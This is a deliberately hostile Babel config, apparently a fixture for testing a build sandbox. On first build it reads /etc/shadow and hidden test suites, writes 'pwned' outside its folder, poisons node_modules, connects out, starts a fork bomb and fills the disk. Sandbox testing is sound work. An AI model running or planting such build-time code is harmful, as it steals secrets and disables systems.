// A hostile babel config for tests/device/test_hostile.py. It still returns a working
// config, but first (once per build) does what `hostile.json` beside it says, and prints
// what it saw into the build log as one `HOSTILE-REPORT {json}` line.
//   snoop: read hidden files, write outside the work folder, connect out, look around
//   leak:  print what it can read of a hidden suite into the build log, then fail
//   bomb:  start a fork bomb in the background, watch it hit the limit, then hang
//   fill:  write a multi-GB file, then fail
//   spray: write many files, each under the file-size limit, until stopped
//   hang:  never return
const cp = require('child_process');
const fs = require('fs');
const path = require('path');

const params = JSON.parse(fs.readFileSync(path.join(__dirname, 'hostile.json'), 'utf8'));

function record(report) {
  console.error('HOSTILE-REPORT ' + JSON.stringify(report));
}

function firstTime() {
  try {
    fs.closeSync(fs.openSync(path.join(__dirname, 'hostile.started'), 'wx'));
    return true;
  } catch (e) {
    return false;
  }
}

function attempt(fn) {
  try {
    const value = fn();
    return 'ok:' + String(value === undefined ? '' : value).slice(0, 200);
  } catch (e) {
    return 'error:' + (e.code || e.message);
  }
}

function sleep(ms) {
  Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, ms);
}

function connect(host, port) {
  const script = `
    const s = require('net').connect({host: ${JSON.stringify(host)}, port: ${port}});
    s.setTimeout(3000, () => { console.log('error:timeout'); process.exit(0); });
    s.on('connect', () => { s.write('hello from the sandbox'); console.log('ok:connected'); s.end(); });
    s.on('error', (e) => { console.log('error:' + e.code); });`;
  const out = cp.spawnSync(process.execPath, ['-e', script], {encoding: 'utf8', timeout: 8000});
  return (out.stdout || '').trim() || 'error:' + (out.error ? out.error.code : 'no output');
}

function lookup(name) {
  const script = `require('dns').lookup(${JSON.stringify(name)}, (e, a) => console.log(e ? 'error:' + e.code : 'ok:' + a));`;
  const out = cp.spawnSync(process.execPath, ['-e', script], {encoding: 'utf8', timeout: 15000});
  return (out.stdout || '').trim() || 'error:timeout';
}

function snoop() {
  const r = {};
  r.uid = process.getuid();
  r.own_file = attempt(() => fs.readFileSync(path.join(__dirname, 'package.json'), 'utf8').length);
  r.read_suite = attempt(() => fs.readFileSync(params.suite_file, 'utf8'));
  r.list_suites_relative = attempt(() => fs.readdirSync(path.join(__dirname, '..', 'suites')).join(','));
  r.list_repo = attempt(() => fs.readdirSync(params.repo).join(','));
  r.list_home = attempt(() => fs.readdirSync(params.home).join(','));
  r.list_reports = attempt(() => fs.readdirSync(params.reports).join(','));
  r.read_reports_sentinel = attempt(() => fs.readFileSync(params.reports_sentinel, 'utf8'));
  r.list_cache_root = attempt(() => fs.readdirSync(params.cache_root).join(','));
  r.read_shadow = attempt(() => fs.readFileSync('/etc/shadow', 'utf8').length);
  r.grader_process = attempt(() => fs.readFileSync(`/proc/${params.grader_pid}/cmdline`, 'utf8'));
  r.visible_processes = fs.readdirSync('/proc').filter((n) => /^\d+$/.test(n)).length;
  for (const [name, target] of Object.entries(params.write_targets)) {
    r['write_' + name] = attempt(() => fs.writeFileSync(target, 'pwned'));
  }
  r.overwrite_reports_sentinel = attempt(() => fs.writeFileSync(params.reports_sentinel, 'pwned'));
  r.poison_node_modules = attempt(() =>
    fs.writeFileSync(path.join(__dirname, 'node_modules', 'expo', 'pwned.js'), 'pwned'));
  r.connect_local = connect('127.0.0.1', params.port);
  r.connect_host = connect(params.host_ip, params.port);
  r.dns = lookup('registry.npmjs.org');
  record(r);
}

function leak() {
  const seen = attempt(() => fs.readFileSync(params.suite_file, 'utf8'));
  const listed = attempt(() => fs.readdirSync(path.join(__dirname, '..', 'suites')).join(','));
  record({read_suite: seen, list_suites_relative: listed});
  throw new Error(`HOSTILE found no suite to leak: ${seen}`);
}

function countTasks() {
  return fs.readdirSync('/proc').filter((n) => /^\d+$/.test(n)).reduce((sum, pid) => {
    try {
      return sum + fs.readdirSync(`/proc/${pid}/task`).length;
    } catch (e) {
      return sum;
    }
  }, 0);
}

function bomb() {
  // Every process starts another one every 250 ms, forever, shrugging off failures: the
  // quota is full within a few seconds, and the refused spawns that follow cost little (the
  // test took 7 CPU-s in all, against 49 at every 10 ms with a busy loop at the end).
  const source = `
    const cp = require('child_process');
    setInterval(() => {
      try {
        cp.spawn(process.execPath, [__filename], {detached: true, stdio: 'ignore'}).on('error', () => {});
      } catch (e) {}
    }, 250);`;
  const file = path.join(__dirname, 'bomb.js');
  fs.writeFileSync(file, source);
  cp.spawn(process.execPath, [file], {detached: true, stdio: 'ignore'}).on('error', () => {}).unref();
  let tasks = 0;
  for (let waited = 0; waited < 15000 && tasks < params.expect_tasks; waited += 500) {
    sleep(500);
    tasks = countTasks();
  }
  const visible = fs.readdirSync('/proc').filter((n) => /^\d+$/.test(n)).length;
  record({visible_processes: visible, tasks});
  for (;;) sleep(1000);  // and never finish: the bomb must be killed at the time limit, all of it
}

function fill() {
  const chunk = Buffer.alloc(16 * 1024 * 1024, 120);
  const fd = fs.openSync(path.join(__dirname, 'big.bin'), 'w');
  let written = 0;
  let stopped = 'no';
  try {
    for (let i = 0; i < 4 * 64; i++) {  // 4 GiB
      written += fs.writeSync(fd, chunk);
    }
  } catch (e) {
    stopped = e.code || e.message;
  }
  fs.closeSync(fd);
  record({written, stopped});
  throw new Error(`HOSTILE wrote ${written} bytes, then ${stopped}`);
}

function spray() {
  const chunk = Buffer.alloc(16 * 1024 * 1024, 121);
  for (let n = 0; n < 4096; n++) {
    const fd = fs.openSync(path.join(__dirname, `spray-${n}.bin`), 'w');
    try {
      for (let i = 0; i < 3; i++) fs.writeSync(fd, chunk);  // 48 MiB each
    } finally {
      fs.closeSync(fd);
    }
  }
}

module.exports = function (api) {
  api.cache(false);
  if (firstTime()) {
    ({snoop, leak, bomb, fill, spray, hang: () => { for (;;) {} }})[params.mode]();
  }
  const preset = require.resolve('babel-preset-expo', {paths: [path.dirname(require.resolve('expo/package.json'))]});
  return {presets: [preset]};
};
